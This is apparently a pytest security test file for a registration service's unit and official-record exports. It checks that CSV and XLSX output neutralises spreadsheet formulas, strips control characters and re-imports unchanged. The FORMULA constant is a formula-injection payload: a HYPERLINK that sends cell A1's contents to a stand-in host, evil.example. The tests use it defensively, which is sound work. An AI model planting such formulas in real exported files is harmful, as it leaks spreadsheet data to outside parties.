"""Item 10: exports carry text, never formulas, and no control characters; an export re-imports as the same."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from services.registration.adapters.import_files import read_csv, read_xlsx
from shared.exports import csv_text, strip_control
from tests.security.support import LEGACY_UNITS, Services, build_services, seed_legacy_units

BOARD = ["organization_board"]
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Bấm")'


@pytest.fixture
async def services(tmp_path: Path) -> AsyncIterator[Services]:
    s = await build_services(tmp_path)
    await seed_legacy_units(s)
    yield s
    await s.close()


async def test_a_formula_named_unit_exports_as_a_text_cell(services: Services) -> None:
    resp = await services.client("registration").get("/units?format=xlsx", headers=services.headers(BOARD))
    assert resp.status_code == 200
    sheet = zipfile.ZipFile(io.BytesIO(resp.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula anywhere
    ws = load_workbook(io.BytesIO(resp.content)).worksheets[0]
    cell = next(c for row in ws.iter_rows() for c in row if c.value == FORMULA)
    assert cell.data_type == "s" and cell.quotePrefix


async def test_a_control_character_no_longer_breaks_the_export_and_is_stripped(services: Services) -> None:
    client, h = services.client("registration"), services.headers(BOARD)
    for _ in range(2):  # "every later export": twice
        resp = await client.get("/units?format=xlsx", headers=h)
        assert resp.status_code == 200
    names = [r.get("name") for _, r in read_xlsx(resp.content)]
    assert strip_control(LEGACY_UNITS["LOCNINH"]) in names and LEGACY_UNITS["LOCNINH"] not in names
    refused = await client.post("/units", headers=h, json={"code": "XA1", "name": "Xã\x07 Một", "kind": "commune"})
    assert refused.status_code == 422 and refused.json()["errors"][0]["code"] == "control_character"
    assert refused.json()["errors"][0]["message_vi"]


async def test_csv_export_neutralises_and_reimports_unchanged(services: Services) -> None:
    resp = await services.client("registration").get("/units?format=csv", headers=services.headers(BOARD))
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/csv")
    text = resp.content.decode("utf-8-sig")
    raw = [r["name"] for r in csv.DictReader(io.StringIO(text))]
    assert "'" + FORMULA in raw and FORMULA not in raw  # what a spreadsheet opens is text
    assert FORMULA in [r["name"] for _, r in read_csv(text)]  # what the importer reads is the name


async def test_reimporting_an_officials_export_gives_the_same_records(services: Services) -> None:
    client, h = services.client("registration"), services.headers(BOARD)
    assert (await client.post("/units", headers=h, json={"code": "DONGXOAI", "name": "Đồng Xoài",
                                                         "kind": "district"})).status_code == 201
    body = {"personal_id": "001075012345", "full_name": "Nguyễn Văn An", "gender": "male",
            "birth": {"year": 1975, "month": 3, "day": 12}, "unit_code": "DONGXOAI", "category": "civil_servant",
            "position": "-Phó phòng", "title": "@chuyên viên", "political_theory": "none"}
    assert (await client.post("/officials", headers=h, json=body)).status_code == 201
    for fmt in ("xlsx", "csv"):
        resp = await client.get(f"/officials?format={fmt}", headers=h)
        rows = list(read_xlsx(resp.content) if fmt == "xlsx" else read_csv(resp.content.decode("utf-8-sig")))
        assert [(r["full_name"], r["position"], r["title"]) for _, r in rows] == [
            ("Nguyễn Văn An", "-Phó phòng", "@chuyên viên")]


def test_the_csv_writer_neutralises_each_leading_character() -> None:
    out = csv_text(["v"], [["=1+1"], ["+1"], ["-1"], ["@SUM(A1)"], ["a\x00b"], [-5]])
    assert out.splitlines()[1:] == ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "ab", "-5"]
